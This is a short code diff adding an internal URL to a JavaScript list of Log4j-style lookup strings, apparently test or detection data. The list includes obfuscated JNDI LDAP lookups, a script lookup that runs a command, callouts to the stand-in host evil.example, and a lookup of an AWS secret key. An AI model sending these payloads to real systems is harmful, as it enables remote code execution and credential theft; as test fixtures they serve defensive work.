@@ -78,6 +78,7 @@ const expressions = [
   "${jndi:${lower:l}${lower:d}ap://x}",
   "${j${k8s:k5:-ND}i:ldap://x}",
   "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+  "http://wiki.corp/admin",
   "${url:UTF-8:http://evil.example}",
   "${dns:address|evil.example}",
   "${env:AWS_SECRET_ACCESS_KEY}",
